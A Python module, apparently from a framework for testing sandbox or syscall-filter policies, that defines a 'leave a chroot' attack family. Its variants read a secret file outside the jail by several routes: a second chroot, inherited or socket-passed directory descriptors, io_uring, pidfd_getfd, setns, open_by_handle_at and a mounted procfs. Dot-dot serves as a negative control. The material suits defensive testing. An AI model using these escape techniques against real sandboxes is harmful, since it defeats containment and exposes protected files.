"""Leave a chroot: read a file that is outside the jail.

The jail is the directory d; the secret lies beside it.
"""

from attacks import namespaces
from attacks.consts import (
    AT_FDCWD,
    CLONE_NEWNS,
    NULL,
    O_CREAT,
    O_DIRECTORY,
    O_PATH,
    O_RDONLY,
    O_WRONLY,
)
from attacks.deputy import STOLEN_FD
from attacks.effects import SECRET, Effect, EffectKind, Object, ObjectKind
from attacks.family import Assumption, Family, Fresh, Need, Technique
from attacks.kernel import Kernel
from attacks.program import Environment
from attacks.recorder import Buffer, Result

FAMILY = Family(
    "leave-chroot",
    title="Leave a chroot",
    effect=lambda _: Effect(EffectKind.LEARNED),
    objects=(
        Object(ObjectKind.FILE, "outside", 0o600, SECRET),
        Object(ObjectKind.DIRECTORY, "d/in", 0o755),
    ),
    has_target=False,
    group="namespaces and mounts",
    attack_technique="T1611",
    unrecorded={
        "open_tree of /.. in the jail": "dot-dot does not leave the jail; see the control",
        "unshare(CLONE_FS)": "gives the process a copy of the root that it has",
    },
)
CHROOT = (Need.CAP_SYS_CHROOT,)
JOIN = (Need.CAP_SYS_CHROOT, Need.CAP_SYS_ADMIN)
_LARGEST = 128


@FAMILY.variant(Technique.BASELINE, needs=CHROOT, references=("man 2 chroot",))
def chroot_twice(k: Kernel) -> None:
    """The call that the author of the policy has in mind: a jail below leaves one above it."""
    _jailed(k)
    k.chroot(k.text("in")).decisive()
    k.chdir(k.text(".."))
    _learn(k)


@FAMILY.variant(
    Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_DESCRIPTOR, needs=CHROOT
)
def openat_inherited(k: Kernel) -> None:
    """A directory outside was opened before the jail, and paths from it are not held by it."""
    directory = _outside(k)
    _jailed(k.setup)
    _read(k, k.openat(directory, k.text("outside"), O_RDONLY).decisive())


@FAMILY.variant(
    Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_DESCRIPTOR, needs=CHROOT
)
def fchdir_inherited(k: Kernel) -> None:
    """Goes out by a directory from before the jail; then plain relative paths are outside."""
    directory = _outside(k)
    _jailed(k.setup)
    k.fchdir(directory).decisive()
    _learn(k)


@FAMILY.variant(Technique.ASYNC_KERNEL, assumption=Assumption.INHERITED_DESCRIPTOR, needs=CHROOT)
def io_uring_openat_inherited(k: Kernel) -> None:
    """A ring opens the file by a directory from before the jail: there is no call to deny."""
    directory = _outside(k)
    _jailed(k.setup)
    _read(k, k.ring().openat(directory, k.text("outside"), O_RDONLY, 0).decisive())


@FAMILY.variant(
    Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_DESCRIPTOR, needs=CHROOT
)
def openat_received(k: Kernel) -> None:
    """The directory waits in a socket: closing what was inherited does not remove it."""
    socket = namespaces.queued(k, _outside(k))
    _jailed(k.setup)
    directory = namespaces.received(k, socket)
    _read(k, k.openat(directory, k.text("outside"), O_RDONLY).decisive())


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=Assumption.TRUSTED_SETUP, needs=CHROOT)
def working_directory(k: Kernel) -> None:
    """Chroot does not change the working directory: whoever forgets chdir leaves it outside."""
    k.setup.chroot(k.parent())
    _read(k, k.open(k.relative("outside"), O_RDONLY).decisive())


@FAMILY.variant(Technique.NEWER_SYSCALL, assumption=Assumption.TRUSTED_SETUP, needs=CHROOT)
def pidfd_getfd(k: Kernel) -> None:
    """Takes the directory from a neighbour that is not jailed, without procfs or ptrace."""
    k.victim.dup2(k.victim.open(k.text("."), O_RDONLY | O_DIRECTORY), STOLEN_FD)
    _jailed(k.setup)
    process = k.pidfd_open(k.env(Environment.VICTIM_PID), 0)
    directory = k.pidfd_getfd(process, STOLEN_FD, 0).decisive()
    _read(k, k.openat(directory, k.text("outside"), O_RDONLY))


@FAMILY.variant(Technique.NAMESPACE, assumption=Assumption.TRUSTED_SETUP, needs=JOIN)
def setns_own_pidfd(k: Kernel) -> None:
    """Joining the mount namespace that one is in sets the root to that of the namespace."""
    _jailed(k.setup)
    k.setns(k.pidfd_open(k.getpid(), 0), CLONE_NEWNS).decisive()
    _read(k, k.open(k.text("work/outside"), O_RDONLY))


@FAMILY.variant(Technique.NAMESPACE, needs=JOIN)
def setns_opened_before(k: Kernel) -> None:
    """The mount namespace was opened before the jail; joining it again sets the root."""
    namespace = k.open(k.proc("self/ns/mnt"), O_RDONLY)
    _jailed(k)
    k.setns(namespace, 0).decisive()
    _read(k, k.open(k.text("work/outside"), O_RDONLY))


@FAMILY.variant(
    Technique.NEWER_SYSCALL,
    assumption=Assumption.TRUSTED_SETUP,
    needs=JOIN,
    fresh=(Fresh.MOUNT,),
    objects=(Object(ObjectKind.DIRECTORY, "m", 0o755),),
)
def open_by_handle_at(k: Kernel) -> None:
    """A handle says which directory of the file system is meant, and no path is walked to it."""
    handle = _handle_in_own_file_system(k.setup)
    k.setup.chroot(k.text("m/jail"))
    k.setup.chdir(k.text("/"))
    directory = k.open_by_handle_at(AT_FDCWD, handle, O_RDONLY | O_DIRECTORY).decisive()
    _read(k, k.openat(directory, k.text("outside"), O_RDONLY))


@FAMILY.variant(
    Technique.PROC_INTERFACE,
    assumption=Assumption.TRUSTED_SETUP,
    needs=JOIN,
    fresh=(Fresh.MOUNT,),
)
def mount_procfs(k: Kernel) -> None:
    """A procfs that is mounted in the jail has links to the directories of others."""
    k.victim.getpid()
    _jailed(k.setup)
    name = k.text("proc")
    k.mount(name, k.text("in"), name, 0, NULL).decisive()
    path = k.data(b"in/".ljust(64, b"\0"), name="path")
    suffix = k.text("/cwd/outside")
    k.print_number(path.at(len("in/")), k.env(Environment.VICTIM_PID), suffix)
    _read(k, k.open(path, O_RDONLY))


@FAMILY.variant(
    Technique.SIBLING_SYSCALL, assumption=Assumption.TRUSTED_SETUP, needs=CHROOT, negative=True
)
def dot_dot(k: Kernel) -> None:
    """From the root of the jail dot-dot leads to itself."""
    _jailed(k.setup)
    k.open(k.text("../outside"), O_RDONLY).decisive().may_fail()


def _jailed(k: Kernel) -> None:
    k.chroot(k.parent())
    k.chdir(k.text("/"))


def _outside(k: Kernel) -> Result:
    """Before the filter: the directory above the jail."""
    return k.setup.openat(AT_FDCWD, k.text("."), O_PATH | O_DIRECTORY)


def _handle_in_own_file_system(k: Kernel) -> Buffer:
    """Of a directory with the secret in it, which the kernel copies past the program's memory.

    Only in a file system of one's own does a handle lead to what is above the jail.
    """
    name, handle = k.text("tmpfs"), k.struct("II" + "Q" * 16, _LARGEST, *(0,) * 17, name="handle")
    k.mount(name, k.text("m"), name, 0, k.text("mode=0755"))
    k.mkdirat(AT_FDCWD, k.text("m/jail"), 0o755)
    copy = k.open(k.text("m/outside"), O_CREAT | O_WRONLY, 0o600)
    k.sendfile(copy, k.open(k.text("outside"), O_RDONLY), NULL, len(SECRET))
    k.name_to_handle_at(AT_FDCWD, k.text("m"), handle, k.buffer(8, name="mount"), 0)
    return handle


def _learn(k: Kernel) -> None:
    _read(k, k.open(k.text("outside"), O_RDONLY))


def _read(k: Kernel, file: Result) -> None:
    namespaces.read_secret(k, file)
